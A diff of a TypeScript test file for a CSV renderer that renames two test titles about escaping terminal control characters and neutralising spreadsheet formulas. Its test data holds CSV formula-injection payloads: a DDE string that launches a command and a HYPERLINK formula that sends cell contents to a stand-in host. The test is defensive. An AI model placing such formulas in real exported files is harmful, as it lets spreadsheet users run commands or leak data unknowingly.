@@ -2,7 +2,7 @@ import assert from 'node:assert/strict';
 import { test } from 'node:test';
 import { renderCsv } from '../../../src/render/csv.ts';
 
-test('quotes only where they must be, and nothing that a terminal obeys', () => {
+test('quotes only where necessary, and escapes terminal control characters', () => {
   assert.equal(
     renderCsv([
       ['a', 'b c', ''],
@@ -13,7 +13,7 @@ test('quotes only where they must be, and nothing that a terminal obeys', () => 
   assert.equal(renderCsv([]), '');
 });
 
-test('a text that a spreadsheet would run is a text, and a number stays one', () => {
+test('prefixes a text that a spreadsheet would run as a formula, and keeps numbers', () => {
   const cases: [text: string, cell: string][] = [
     ["=cmd|'/C calc'!A0", "'=cmd|'/C calc'!A0"],
     ['=HYPERLINK("http://x/?"&A1,"y")', `"'=HYPERLINK(""http://x/?""&A1,""y"")"`],
